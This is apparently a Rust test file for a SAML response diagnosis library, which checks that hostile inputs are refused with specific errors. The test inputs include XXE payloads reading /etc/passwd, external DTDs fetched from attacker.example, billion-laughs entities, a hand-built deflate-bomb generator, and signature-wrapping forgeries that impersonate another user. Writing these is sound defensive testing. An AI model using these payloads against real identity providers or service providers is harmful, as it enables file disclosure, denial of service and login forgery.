//! Hostile input to the SAML side, as the admin pastes it or the login window captures it: XXE
//! and DTDs in every encoding the decoder accepts, 100 MB pastes, deflate bombs (responses and
//! the SAMLRequest of the redirect binding), bad base64, invalid UTF-8 and UTF-16, deep nesting,
//! and signature wrapping. Each ends in its specific error, checked by the limit it names, never
//! by a stopwatch.

mod support;

use base64::Engine as _;
use flex_sso_saml::limits::{MAX_INPUT_BYTES, MAX_XML_ATTRIBUTES_PER_ELEMENT, MAX_XML_BYTES, MAX_XML_DEPTH, MAX_XML_NODES};
use flex_sso_saml::{authn_request_issuer, decode_input, diagnose, InputError, InputForm, Report, Verdict, XmlError};
use support::*;

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn deflated_b64(xml: &str) -> String {
    b64(&miniz_oxide::deflate::compress_to_vec(xml.as_bytes(), 6))
}

/// Diagnoses `input` and checks it was refused with exactly `detail` (the error's own words).
fn refused(input: &str, detail: &str) -> Report {
    let report = diagnose(input, &expectations());
    assert_eq!(report.codes(), ["input_invalid"], "{:?}", report.findings);
    assert_eq!(report.findings[0].detail, detail);
    assert_eq!(report.exit_code(), 2);
    assert!(report.summary.is_none(), "nothing of a refused input is summarized");
    report
}

fn dtd() -> String {
    XmlError::Dtd.to_string()
}

/// A raw DEFLATE stream (RFC 1951, one block with the fixed Huffman codes) that inflates to
/// `prefix` followed by `copies` × 258 spaces: 13 bits of input for every 258 bytes of output,
/// so a few hundred KB stand for 100 MB. Built by hand because compressing 100 MB in a debug
/// test would take longer than the test itself.
fn deflate_bomb(prefix: &[u8], copies: usize) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u32,
        n: u32,
    }
    impl Bits {
        fn lsb(&mut self, value: u32, count: u32) {
            for i in 0..count {
                self.acc |= ((value >> i) & 1) << self.n;
                self.n += 1;
                if self.n == 8 {
                    self.out.push(self.acc as u8);
                    self.acc = 0;
                    self.n = 0;
                }
            }
        }
        /// Huffman codes go most significant bit first.
        fn code(&mut self, code: u32, len: u32) {
            for i in (0..len).rev() {
                self.lsb((code >> i) & 1, 1);
            }
        }
        fn literal(&mut self, byte: u8) {
            match byte {
                0..=143 => self.code(0x30 + u32::from(byte), 8),
                _ => self.code(0x190 + u32::from(byte) - 144, 9),
            }
        }
    }
    let mut bits = Bits { out: Vec::new(), acc: 0, n: 0 };
    bits.lsb(1, 1); // BFINAL
    bits.lsb(1, 2); // BTYPE = fixed Huffman
    for &byte in prefix {
        bits.literal(byte);
    }
    bits.literal(b' ');
    for _ in 0..copies {
        bits.code(0xC5, 8); // length 258 (symbol 285)
        bits.code(0, 5); // distance 1
    }
    bits.code(0, 7); // end of block (symbol 256)
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    bits.out
}

// ---- XXE, billion laughs, external DTDs -----------------------------------------------------

#[test]
fn an_external_file_entity_is_refused_and_the_file_never_read() {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><x>&xxe;</x></samlp:Response>"#;
    let report = refused(xxe, &dtd());
    assert!(!serde_json::to_string(&report).unwrap().contains("root:"), "nothing of /etc/passwd in the report");
}

#[test]
fn an_external_dtd_and_a_parameter_entity_are_refused() {
    refused(r#"<!DOCTYPE samlp:Response SYSTEM "https://attacker.example/saml.dtd"><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>"#, &dtd());
    refused(r#"<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><r/>"#, &dtd());
}

#[test]
fn a_dtd_after_a_comment_and_a_processing_instruction_is_refused() {
    refused("<?xml version=\"1.0\"?>\n<!-- saved from the IdP -->\n<?xml-stylesheet href=\"x\"?>\n<!DOCTYPE r [<!ENTITY a \"b\">]><r>&a;</r>", &dtd());
}

#[test]
fn billion_laughs_in_the_post_binding_base64_is_refused() {
    let mut laughs = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for level in 1..10 {
        let prev = if level == 1 { "lol".to_owned() } else { format!("lol{}", level - 1) };
        laughs.push_str(&format!("<!ENTITY lol{level} \"{}\">", format!("&{prev};").repeat(10)));
    }
    laughs.push_str("]><samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">&lol9;</samlp:Response>");
    let report = refused(&b64(laughs.as_bytes()), &dtd());
    assert_eq!(report.input_form, Some(InputForm::Base64));
}

#[test]
fn an_external_dtd_inside_the_redirect_binding_deflate_is_refused() {
    let xml = r#"<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/x.dtd"><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>"#;
    let value: String = form_urlencoded::byte_serialize(deflated_b64(xml).as_bytes()).collect();
    assert_eq!(decode_input(&value).unwrap().form, InputForm::Base64Deflate);
    refused(&value, &dtd());
    // And in a whole form body.
    refused(&format!("SAMLResponse={value}&RelayState=x"), &dtd());
}

// ---- size ------------------------------------------------------------------------------------

#[test]
fn a_100_mb_paste_is_refused_by_the_input_limit_before_decoding() {
    let huge = "PHNhbWxwOlJlc3BvbnNl".repeat(5 * 1024 * 1024 + 1);
    assert!(huge.len() > 100 * 1024 * 1024);
    let error = decode_input(&huge).unwrap_err();
    assert_eq!(error, InputError::TooLarge { found: huge.len(), limit: MAX_INPUT_BYTES });
    refused(&huge, &error.to_string());
}

#[test]
fn a_100_mb_form_body_is_refused_by_the_input_limit() {
    let body = format!("RelayState={}&SAMLResponse=PHI%2B", "x".repeat(100 * 1024 * 1024));
    assert_eq!(decode_input(&body).unwrap_err().code(), "input_too_large");
}

#[test]
fn xml_just_over_the_decoded_limit_is_refused_and_just_under_is_read() {
    let open = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">";
    let close = "</samlp:Response>";
    let filler = |total: usize| format!("{open}{}{close}", " ".repeat(total - open.len() - close.len()));
    assert_eq!(decode_input(&b64(filler(MAX_XML_BYTES + 1).as_bytes())).unwrap_err(), InputError::XmlTooLarge { limit: MAX_XML_BYTES });
    assert_eq!(decode_input(&b64(filler(MAX_XML_BYTES).as_bytes())).unwrap().xml.len(), MAX_XML_BYTES);
}

// ---- deflate bombs ---------------------------------------------------------------------------

#[test]
fn a_100_mb_deflate_bomb_stops_at_the_decoded_limit() {
    let prefix = b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">";
    let bomb = deflate_bomb(prefix, 100 * 1024 * 1024 / 258);
    // Sanity: the stream really is a 100 MB one (inflated here without a limit, once).
    assert!(bomb.len() < 700 * 1024, "{} bytes", bomb.len());
    let value = b64(&bomb);
    assert!(value.len() < MAX_INPUT_BYTES, "fits under the paste limit, so only the inflate limit can stop it");
    assert_eq!(decode_input(&value).unwrap_err(), InputError::XmlTooLarge { limit: MAX_XML_BYTES });
    refused(&value, &InputError::XmlTooLarge { limit: MAX_XML_BYTES }.to_string());
}

#[test]
fn the_bomb_generator_makes_what_it_says() {
    let small = deflate_bomb(b"<r>", 10);
    let inflated = miniz_oxide::inflate::decompress_to_vec(&small).unwrap();
    assert_eq!(inflated.len(), 3 + 1 + 10 * 258);
    assert!(inflated.starts_with(b"<r> "));
}

#[test]
fn a_deflate_bomb_as_the_redirect_binding_samlrequest_reads_no_issuer() {
    let prefix = b"<samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml:Issuer>urn:flex:JQ1</saml:Issuer>";
    let value: String = form_urlencoded::byte_serialize(b64(&deflate_bomb(prefix, 400_000)).as_bytes()).collect();
    // The same decoder reads a SAMLRequest: it stops at the limit, and no Issuer is claimed.
    assert_eq!(decode_input(&value).unwrap_err(), InputError::XmlTooLarge { limit: MAX_XML_BYTES });
    assert_eq!(authn_request_issuer(&value), None);
}

#[test]
fn a_truncated_or_non_xml_deflate_stream_is_not_saml() {
    let whole = miniz_oxide::deflate::compress_to_vec(b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>", 6);
    assert_eq!(decode_input(&b64(&whole[..whole.len() / 2])).unwrap_err(), InputError::NotSaml);
    let binary = miniz_oxide::deflate::compress_to_vec(&[0x89, b'P', b'N', b'G', 0, 0, 0, 13], 6);
    assert_eq!(decode_input(&b64(&binary)).unwrap_err(), InputError::NotSaml);
}

#[test]
fn deflate_inside_deflate_is_not_unwrapped_twice() {
    let inner = miniz_oxide::deflate::compress_to_vec(b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>", 6);
    let outer = miniz_oxide::deflate::compress_to_vec(&inner, 6);
    assert_eq!(decode_input(&b64(&outer)).unwrap_err(), InputError::NotSaml);
}

// ---- base64, percent-encoding, UTF-8, UTF-16 ------------------------------------------------

#[test]
fn a_bad_base64_character_is_named_with_its_position() {
    let good = b64(b"<samlp:Response/>");
    let cases = [(format!("{}*{}", &good[..5], &good[5..]), 6, '*'), (format!("{}\u{ff21}{}", &good[..3], &good[3..]), 4, '\u{ff21}'),
        (format!("{}\u{0}", good), good.len() + 1, '\u{0}'), (format!("{}\u{200b}{}", &good[..8], &good[8..]), 9, '\u{200b}')];
    for (input, position, found) in cases {
        assert_eq!(decode_input(&input).unwrap_err(), InputError::NotBase64 { position, found }, "{input:?}");
    }
}

#[test]
fn base64_of_an_impossible_length_is_not_saml() {
    // 4n+1 characters cannot be base64 with or without padding: a value cut off.
    assert_eq!(decode_input("PHNhbWxwOlJlc3BvbnNlP").unwrap_err(), InputError::NotSaml);
    assert_eq!(decode_input("P===").unwrap_err(), InputError::NotSaml);
}

#[test]
fn a_broken_percent_escape_is_named_not_guessed() {
    let error = decode_input("PHNhbWxw%ZZOlJlc3BvbnNl").unwrap_err();
    assert_eq!(error, InputError::NotBase64 { position: 9, found: '%' });
}

#[test]
fn invalid_utf8_after_decoding_is_refused() {
    for bytes in [&b"<samlp:Response>caf\xE9</samlp:Response>"[..], b"<r>\xC0\xAF</r>", b"<r>\xED\xA0\x80</r>"] {
        assert_eq!(decode_input(&b64(bytes)).unwrap_err(), InputError::NotUtf8, "{bytes:?}");
    }
}

#[test]
fn utf16_with_or_without_a_byte_order_mark_is_named() {
    let xml = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>";
    let le: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = xml.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let with_bom = [&[0xFF, 0xFE][..], &le].concat();
    for bytes in [with_bom, le, be] {
        assert_eq!(decode_input(&b64(&bytes)).unwrap_err(), InputError::Utf16);
    }
    refused(&b64(&[0xFE, 0xFF, 0, b'<']), &InputError::Utf16.to_string());
    // A lone surrogate is not even UTF-16 text: still named as UTF-16, never read as XML.
    assert_eq!(decode_input(&b64(&[0xFF, 0xFE, 0x00, 0xD8, b'<', 0])).unwrap_err(), InputError::Utf16);
}

// ---- shape -----------------------------------------------------------------------------------

#[test]
fn nesting_one_past_the_depth_limit_is_refused_and_at_the_limit_is_read() {
    // The document node counts as level 0, so MAX_XML_DEPTH elements nest MAX_XML_DEPTH deep.
    let nest = |levels: usize| format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    refused(&nest(MAX_XML_DEPTH + 1), &XmlError::TooDeep { depth: MAX_XML_DEPTH + 1 }.to_string());
    let report = diagnose(&nest(MAX_XML_DEPTH), &expectations());
    assert!(report.findings[0].detail.starts_with("The XML's top element is <a>"), "{}", report.findings[0].detail);
}

#[test]
fn deep_nesting_inside_base64_is_refused_by_the_depth_limit() {
    let deep = format!("{}{}", "<a>".repeat(50_000), "</a>".repeat(50_000));
    refused(&b64(deep.as_bytes()), &XmlError::TooDeep { depth: 50_000 }.to_string());
}

#[test]
fn a_hundred_thousand_attributes_on_one_element_are_refused_before_parsing() {
    // The parser checks each attribute against all earlier ones of its element: 100,000 took
    // minutes before this limit. Namespace declarations are not counted (c14n has its own rules).
    let attributes: String = (0..100_000).map(|i| format!(" a{i}=\"\"")).collect();
    let xml = format!("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"{attributes}/>");
    assert!(xml.len() < MAX_XML_BYTES);
    refused(&xml, &XmlError::TooManyAttributes { count: 100_000 }.to_string());
    let at_limit: String = (0..MAX_XML_ATTRIBUTES_PER_ELEMENT).map(|i| format!(" a{i} = '='")).collect();
    let xml = format!("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:x=\"urn:x\"{at_limit}/>");
    let report = diagnose(&xml, &expectations());
    assert!(report.summary.is_some(), "read as a (bad) response: {:?}", report.findings);
}

#[test]
fn a_hundred_thousand_comments_are_nodes_and_hit_the_node_limit() {
    let xml = format!("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\">{}</samlp:Response>", "<!---->".repeat(MAX_XML_NODES as usize));
    refused(&xml, &XmlError::TooManyNodes.to_string());
}

// ---- signature wrapping (end to end: refused, with the right finding) -----------------------

/// The signed assertion element's text, as it appears in `xml`.
fn assertion_text(xml: &str) -> &str {
    let start = xml.find("<saml:Assertion").unwrap();
    let end = xml.find("</saml:Assertion>").unwrap() + "</saml:Assertion>".len();
    &xml[start..end]
}

fn assert_not_trusted(report: &Report) {
    assert_eq!(report.verdict, Verdict::Fail, "{:?}", report.codes());
    assert!(report.summary.as_ref().is_none_or(|s| s.signatures.iter().all(|g| !matches!(g.crypto, flex_sso_saml::Crypto::Verified { .. }) || g.signs != "assertion")),
        "no assertion counts as verified");
}

/// With two assertions none is trusted, so nothing of the forged one reaches the summary.
fn assert_forged_subject_hidden(report: &Report) {
    let name_id = report.summary.as_ref().and_then(|s| s.name_id.clone());
    assert_ne!(name_id.as_deref(), Some("eve@example.com"), "the forged subject is never shown as the signed-in user");
}

#[test]
fn the_signed_assertion_hidden_in_its_own_signature_object_does_not_vouch_for_a_forged_one() {
    // XSW: the original, signed assertion moves into a ds:Object of a signature; a forged one
    // with another ID and no signature takes its place.
    let signed = Template { sign_response: false, ..Template::default() }.signed();
    let original = assertion_text(&signed).to_owned();
    let forged = original.replace("ID=\"_assert1\"", "ID=\"_evil\"").replace("ada@example.com", "eve@example.com");
    let forged_unsigned = {
        let start = forged.find("<ds:Signature").unwrap();
        let end = forged.find("</ds:Signature>").unwrap() + "</ds:Signature>".len();
        format!("{}<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:Object>{original}</ds:Object></ds:Signature>{}", &forged[..start], &forged[end..])
    };
    let xml = signed.replace(&original, &forged_unsigned);
    let report = diagnose(&xml, &expectations());
    assert_not_trusted(&report);
    assert_forged_subject_hidden(&report);
    assert!(report.findings.iter().any(|f| f.title == "The response carries more than one assertion."), "{:?}", report.codes());
}

#[test]
fn a_signed_response_wrapped_inside_a_forged_one_is_refused() {
    // XSW: a new outer Response with a forged assertion carries the whole signed original in
    // its Extensions, so a verifier that looks for "a valid signature anywhere" would pass it.
    let signed = Template { sign_assertion: false, ..Template::default() }.signed();
    let body = signed.trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>").trim();
    let forged_assertion = assertion_text(body).replace("ID=\"_assert1\"", "ID=\"_evil\"").replace("ada@example.com", "eve@example.com");
    let xml = format!(
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_outer\" Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\" Destination=\"{}\"><saml:Issuer>{IDP_ISSUER}</saml:Issuer><samlp:Extensions>{body}</samlp:Extensions><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{forged_assertion}</samlp:Response>",
        acs_url()
    );
    let report = diagnose(&xml, &expectations());
    assert_not_trusted(&report);
    let codes = report.codes();
    assert!(codes.contains(&"response_unsigned") || codes.contains(&"input_invalid"), "{codes:?}");
}

#[test]
fn a_reference_to_the_response_from_inside_the_assertion_does_not_sign_the_assertion() {
    // The assertion's signature is re-pointed at the Response's ID: whatever it signs, it is not
    // this assertion, so nothing in the assertion counts as signed.
    let signed = Template { sign_response: false, ..Template::default() }.signed();
    let xml = signed.replace("URI=\"#_assert1\"", "URI=\"#_resp1\"").replace("ada@example.com", "eve@example.com");
    let report = diagnose(&xml, &expectations());
    assert_not_trusted(&report);
    assert!(report.codes().contains(&"signature_invalid"), "{:?}", report.codes());
}
